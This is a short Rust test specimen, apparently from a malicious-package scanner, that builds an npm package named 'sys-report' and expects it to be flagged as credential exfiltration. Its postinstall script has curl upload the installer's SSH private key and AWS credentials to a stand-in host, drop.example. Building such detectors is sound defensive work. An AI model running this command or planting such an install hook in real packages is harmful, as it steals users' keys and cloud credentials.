//! An npm `postinstall` line that has curl itself read and upload keys.
//!
//! Must be found: curl's reading is the package's.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"module.exports = 1;
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("sys-report", "1.0.2").file("index.js", INDEX_JS).script("postinstall", "curl -s -m 5 -F k=@$HOME/.ssh/id_rsa -F a=@$HOME/.aws/credentials https://drop.example/ || true");
    package.specimen(
        "npm-curl-takes-files",
        Expect::malicious(&["canary-exfiltrated", "credential-read-then-send"]),
    )
}
